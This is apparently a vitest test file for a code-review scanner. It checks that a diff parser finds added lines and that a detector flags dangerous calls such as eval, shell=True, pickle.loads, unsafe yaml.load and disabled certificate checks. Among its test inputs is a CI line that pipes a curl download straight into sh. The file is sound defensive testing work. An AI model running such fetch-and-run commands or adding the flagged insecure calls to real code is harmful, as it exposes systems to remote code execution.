import { describe, expect, it } from 'vitest';
import { addedLines, dangerousCalls, wholeFile } from './change.ts';

const DIFF = `diff --git a/src/a.ts b/src/a.ts
--- a/src/a.ts
+++ b/src/a.ts
@@ -3,2 +3,3 @@ function f() {
--- looks like a header
-old
+one
++++ b/not-a-file
+two
@@ -20 +22,0 @@
-gone
diff --git a/with space.py b/with space.py
--- /dev/null
+++ b/with space.py
@@ -0,0 +1 @@
+x = 1
`;

it('given a diff, when it is read, then every added line has its file and number, and nothing else counts', () => {
  expect(addedLines(DIFF)).toEqual([
    {
      path: 'src/a.ts',
      lines: [
        { number: 3, text: 'one' },
        { number: 4, text: '+++ b/not-a-file' },
        { number: 5, text: 'two' },
      ],
    },
    { path: 'with space.py', lines: [{ number: 1, text: 'x = 1' }] },
  ]);
});

describe('given added lines', () => {
  const found = (path: string, text: string) => dangerousCalls([wholeFile(path, text)]).map(({ what }) => what);

  it.each([
    ['a.ts', 'const x = eval(input);', 'eval()'],
    ['a.js', 'new Function("a", body)', 'new Function()'],
    ['a.mjs', `execSync(\`rm \${path}\`)`, 'exec() with a built command'],
    ['a.ts', "exec('ls ' + path)", 'exec() with a built command'],
    ['a.ts', 'spawn(cmd, { shell: true })', 'shell: true'],
    ['a.tsx', 'el.innerHTML = text', 'innerHTML'],
    ['a.py', 'subprocess.run(cmd, shell=True)', 'shell=True'],
    ['a.py', 'pickle.loads(data)', 'pickle.load()'],
    ['a.py', 'yaml.load(text)', 'yaml.load() without SafeLoader'],
    ['a.py', 'requests.get(url, verify=False)', 'certificates are not checked'],
    ['a.go', 'InsecureSkipVerify: true', 'certificates are not checked'],
    ['ci.yml', 'run: curl -s https://x.test/i | sh', 'a download that is run at once'],
  ])('when %s has %s, then it is found', (path, text, what) => {
    expect(found(path, text)).toEqual([what]);
  });

  it.each([
    ['a.ts', '// eval(x) would be wrong'],
    ['a.ts', 'retrieval(x); model.eval(x)'],
    ['a.ts', 'pattern.exec(text)'],
    ['a.ts', 'if (a.innerHTML === b) {}'],
    ['a.py', 'yaml.load(text, Loader=yaml.SafeLoader)'],
    ['README.md', 'eval(input)'],
  ])('when %s has %s, then nothing is said', (path, text) => {
    expect(found(path, text)).toEqual([]);
  });
});
